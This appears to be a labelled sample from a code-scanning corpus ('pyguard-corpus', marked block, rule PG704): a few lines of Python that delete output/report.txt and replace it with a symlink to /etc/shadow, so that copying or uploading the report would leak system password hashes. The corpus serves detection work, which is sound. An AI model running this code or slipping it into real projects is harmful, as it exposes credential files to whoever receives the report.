# pyguard-corpus: verdict=block category=filesystem rules=PG704
# what: replaces the report the user will open with a symlink to /etc/shadow, so a later copy or upload leaks it
import os

os.makedirs("output", exist_ok=True)
if os.path.exists("output/report.txt"):
    os.remove("output/report.txt")
os.symlink("/etc/shadow", "output/report.txt")
